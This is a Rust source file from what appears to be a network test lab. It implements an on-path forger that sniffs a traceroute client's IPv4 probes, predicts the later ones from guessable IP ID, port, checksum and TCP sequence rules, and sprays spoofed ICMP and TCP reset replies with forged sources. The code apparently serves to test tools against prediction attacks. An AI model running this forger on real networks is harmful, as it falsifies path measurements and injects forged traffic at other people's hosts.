//! A forger on the path, for tests: it sniffs the client's first probes to a target (IPv4), lets that trace end,
//! then, for as long as asked, keeps sending the client replies to the probes it predicts will follow — by the old, guessable rules:
//! IP ID, ports, echo sequence and Paris checksum counting up, TCP sequence numbers from a fixed formula — each
//! both as a Time Exceeded from an address off the path and as the destination's own answer (Port Unreachable,
//! Echo Reply, TCP reset), its source forged.

use std::io::Read;
use std::net::{IpAddr, Ipv4Addr, SocketAddr};
use std::sync::atomic::{AtomicBool, Ordering};
use std::thread;
use std::time::{Duration, Instant};

use socket2::{Domain, Protocol, Socket, Type};

use crate::attack::Attack;
use crate::error::Result;
use crate::lab::Lab;
use crate::spec::NodeId;

/// `ETH_P_IP` and `IPPROTO_RAW` from `<linux/if_ether.h>` and `<netinet/in.h>`.
pub(crate) const ETH_P_IP: u16 = 0x0800;
pub(crate) const IPPROTO_RAW: i32 = 255;

/// What the forger does.
#[derive(Debug, Clone, Copy)]
pub struct Forgery {
    /// The tracing client.
    pub client: Ipv4Addr,
    /// Its target.
    pub target: Ipv4Addr,
    /// The address its Time Exceeded messages come from: one off the path.
    pub forger: Ipv4Addr,
    /// Probes sniffed before predicting.
    pub sniff: usize,
    /// How far past each sniffed probe it predicts.
    pub spread: u16,
    /// How long it waits after sniffing before it forges: time for the sniffed trace (a report's first round)
    /// to end, so that what it forges answers later traces only and no copy of a probe it saw.
    pub hold: Duration,
    /// Pause between two sprays of every prediction.
    pub every: Duration,
    /// How long it runs (at most a minute).
    pub duration: Duration,
}

impl Lab {
    /// Starts `forgery` in `node` (a router on the client's path).
    pub fn forge(&self, node: NodeId, forgery: Forgery) -> Result<Attack> {
        Attack::start(self, node, "netlab-forge", move |stop| run(&forgery, stop))
    }
}

fn run(forgery: &Forgery, stop: &AtomicBool) -> std::io::Result<u64> {
    let started = Instant::now();
    let running = || !stop.load(Ordering::Relaxed) && started.elapsed() < forgery.duration.min(Duration::from_secs(60));
    // Every IPv4 packet crossing the node, from the IP header on.
    let sniffer = Socket::new(Domain::PACKET, Type::DGRAM, Some(Protocol::from(i32::from(ETH_P_IP.to_be()))))?;
    sniffer.set_read_timeout(Some(Duration::from_millis(50)))?;
    let mut probes: Vec<Vec<u8>> = Vec::new();
    let mut buf = [0u8; 2048];
    while probes.len() < forgery.sniff && running() {
        let Ok(len) = (&sniffer).read(&mut buf) else { continue };
        let packet = buf[..len].to_vec();
        let is_probe = packet.len() >= 28
            && packet[0] >> 4 == 4
            && packet[12..16] == forgery.client.octets()
            && packet[16..20] == forgery.target.octets();
        // Seen twice (in on one interface, out on the other): keep each once.
        if is_probe && !probes.contains(&packet) {
            probes.push(packet);
        }
    }
    drop(sniffer);
    thread::sleep(forgery.hold);
    let forged: Vec<Vec<u8>> = probes
        .iter()
        .flat_map(|probe| (1..=forgery.spread).flat_map(move |d| predictions(probe, d)))
        .flat_map(|predicted| [time_exceeded(forgery, &predicted), answer(forgery, &predicted)])
        .flatten()
        .collect();
    let sender = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::from(IPPROTO_RAW)))?;
    let to = SocketAddr::new(IpAddr::V4(forgery.client), 0).into();
    let mut sent = 0;
    while running() {
        for packet in &forged {
            if sender.send_to(packet, &to).is_ok() {
                sent += 1;
            }
        }
        thread::sleep(forgery.every);
    }
    Ok(sent)
}

/// The probe numbered `d` after `probe` by the old rules, in each way the forger cannot tell apart (a classic
/// probe changes a port with its number, a Paris one its checksum or sequence number only).
fn predictions(probe: &[u8], d: u16) -> Vec<Vec<u8>> {
    let header = usize::from(probe[0] & 0xf) * 4;
    let protocol = probe[9];
    let mut base = probe.to_vec();
    let ip_id = u16::from_be_bytes([base[4], base[5]]).wrapping_add(d);
    base[4..6].copy_from_slice(&ip_id.to_be_bytes());
    let field = |packet: &mut Vec<u8>, at: usize, delta: u16| {
        let at = header + at;
        if let Some(bytes) = packet.get_mut(at..at + 2) {
            let value = u16::from_be_bytes([bytes[0], bytes[1]]).wrapping_add(delta);
            bytes.copy_from_slice(&value.to_be_bytes());
        }
    };
    let mut classic = base.clone();
    let mut paris = base;
    match protocol {
        17 => {
            field(&mut classic, 2, d); // the destination port
            field(&mut paris, 6, d); // the checksum
        }
        1 => {
            field(&mut classic, 6, d); // the sequence number
            paris = classic.clone();
        }
        6 => {
            // The old sequence numbers: 0x48540000 ^ n * 0x9e3779b9.
            let at = header + 4;
            if let Some(bytes) = paris.get(at..at + 4) {
                let seq = u32::from_be_bytes([bytes[0], bytes[1], bytes[2], bytes[3]]);
                let n = (seq ^ 0x4854_0000).wrapping_mul(0x144c_bc89); // the inverse of 0x9e3779b9 mod 2^32
                let next = 0x4854_0000 ^ n.wrapping_add(u32::from(d)).wrapping_mul(0x9e37_79b9);
                paris[at..at + 4].copy_from_slice(&next.to_be_bytes());
                classic[at..at + 4].copy_from_slice(&next.to_be_bytes());
            }
            field(&mut classic, 0, d); // the source port
        }
        _ => return Vec::new(),
    }
    for packet in [&mut classic, &mut paris] {
        fix_transport_checksum(packet, header);
    }
    if classic == paris {
        vec![classic]
    } else {
        vec![classic, paris]
    }
}

/// Recomputes the transport checksum of an IPv4 packet (a Paris UDP probe's predicted checksum stays as predicted).
pub(crate) fn fix_transport_checksum(packet: &mut [u8], header: usize) {
    let protocol = packet[9];
    let at = match protocol {
        1 => 2,
        6 => 16,
        17 => return, // left as sent or as predicted
        _ => return,
    };
    let Some(transport) = packet.get_mut(header..) else { return };
    if transport.len() < at + 2 {
        return;
    }
    transport[at..at + 2].copy_from_slice(&[0, 0]);
    let sum = if protocol == 1 {
        packet::checksum::data(transport)
    } else {
        let src = IpAddr::from([packet[12], packet[13], packet[14], packet[15]]);
        let dst = IpAddr::from([packet[16], packet[17], packet[18], packet[19]]);
        let transport = &packet[header..];
        let pseudo = packet::checksum::pseudo_header(&src, &dst, protocol, transport.len() as u32);
        packet::checksum::combine(&[pseudo, packet::checksum::data(transport)])
    };
    let sum = packet::checksum::finish(sum);
    packet[header + at..header + at + 2].copy_from_slice(&sum.to_be_bytes());
}

/// An IPv4 packet from `src` to `dst` of `protocol` carrying `payload` (the kernel fills in the length, the
/// identification and the header checksum).
pub(crate) fn ipv4(src: Ipv4Addr, dst: Ipv4Addr, protocol: u8, payload: &[u8]) -> Vec<u8> {
    let mut packet = vec![0x45, 0, 0, 0, 0, 0, 0, 0, 64, protocol, 0, 0];
    packet.extend(src.octets());
    packet.extend(dst.octets());
    packet.extend(payload);
    packet
}

/// An ICMP message of `kind` and `code` with `rest` after its first four bytes, its checksum computed.
pub(crate) fn icmp(kind: u8, code: u8, rest: &[u8]) -> Vec<u8> {
    let mut message = vec![kind, code, 0, 0];
    message.extend(rest);
    let sum = packet::checksum::finish(packet::checksum::data(&message));
    message[2..4].copy_from_slice(&sum.to_be_bytes());
    message
}

/// A Time Exceeded from the forger's address quoting `probe`.
fn time_exceeded(forgery: &Forgery, probe: &[u8]) -> Option<Vec<u8>> {
    let mut rest = vec![0; 4];
    rest.extend(probe);
    Some(ipv4(forgery.forger, forgery.client, 1, &icmp(11, 0, &rest)))
}

/// The destination's own answer to `probe`, its source forged: a Port Unreachable (UDP), an Echo Reply (ICMP),
/// a reset (TCP).
fn answer(forgery: &Forgery, probe: &[u8]) -> Option<Vec<u8>> {
    let header = usize::from(probe[0] & 0xf) * 4;
    let transport = probe.get(header..)?;
    match probe[9] {
        17 => {
            let mut rest = vec![0; 4];
            rest.extend(probe);
            Some(ipv4(forgery.target, forgery.client, 1, &icmp(3, 3, &rest)))
        }
        1 => Some(ipv4(forgery.target, forgery.client, 1, &icmp(0, 0, transport.get(4..)?))),
        6 => {
            let seq = u32::from_be_bytes(transport.get(4..8)?.try_into().ok()?);
            let mut tcp = transport.get(2..4)?.to_vec(); // from the probe's destination port
            tcp.extend(transport.get(0..2)?); // to its source port
            tcp.extend([0; 4]);
            tcp.extend(seq.wrapping_add(1).to_be_bytes());
            tcp.extend([0x50, 0x14, 0, 0, 0, 0, 0, 0]); // RST + ACK, no window
            let mut packet = ipv4(forgery.target, forgery.client, 6, &tcp);
            fix_transport_checksum(&mut packet, 20);
            Some(packet)
        }
        _ => None,
    }
}
